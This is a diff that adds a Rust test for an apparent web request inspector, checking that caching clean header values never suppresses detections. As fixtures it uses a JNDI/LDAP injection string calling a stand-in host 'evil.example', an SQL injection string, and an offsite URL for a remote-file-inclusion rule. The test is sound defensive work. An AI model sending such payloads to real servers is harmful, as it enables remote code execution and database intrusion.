@@ -838,3 +838,39 @@ fn legacy_probe_paths() {
         assert!(!path(p), "{p}");
     }
 }
+
+/// Clean header values are remembered per thread and not scanned again; the memo never hides a
+/// finding: not for a value with one, not after the classes in force change, not across inspectors.
+#[test]
+fn clean_header_memo_never_hides_findings() {
+    let i = insp();
+    let ua = b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+    let bad = b"Mozilla/5.0 ${jndi:ldap://evil.example/a}";
+    let run = |i: &Inspector, o: &Overlay, v: &[u8]| {
+        let h: [(&str, &[u8]); 1] = [("X-Api-Version", v)];
+        let mut r = Report::default();
+        i.inspect_head_with(&HeadParts { method: "GET", path: "/", query: None, headers: &h }, o, &mut r);
+        r
+    };
+    let none = Overlay::default();
+    for _ in 0..3 {
+        assert!(run(&i, &none, ua).findings.is_empty());
+        assert!(run(&i, &none, bad).should_block(i.config()), "found every time");
+    }
+    // a value clean while the class was off is scanned again once it is on
+    let mut off = Overlay::default();
+    off.detectors.insert("sqli".into(), DetectorMode::Off);
+    let sql = b"1' or '1'='1' -- x";
+    assert!(!run(&i, &off, sql).should_block(i.config()));
+    assert!(run(&i, &none, sql).should_block(i.config()));
+    // another inspector (another rule set) does not trust this one's memo
+    let strict = Inspector::new(PayloadConfig { paranoia: 3, ..PayloadConfig::default() }).expect("pl3");
+    let cookie: [(&str, &[u8]); 1] = [("Cookie", b"next=https://partner.example/landing")];
+    let head = HeadParts { method: "GET", path: "/", query: None, headers: &cookie };
+    let mut r = Report::default();
+    i.inspect_head(&head, &mut r);
+    assert!(r.findings.is_empty(), "{:?}", r.findings);
+    let mut r = Report::default();
+    strict.inspect_head(&head, &mut r);
+    assert!(r.findings.iter().any(|f| f.rule == "rfi.offsite_url"), "{:?}", r.findings);
+}
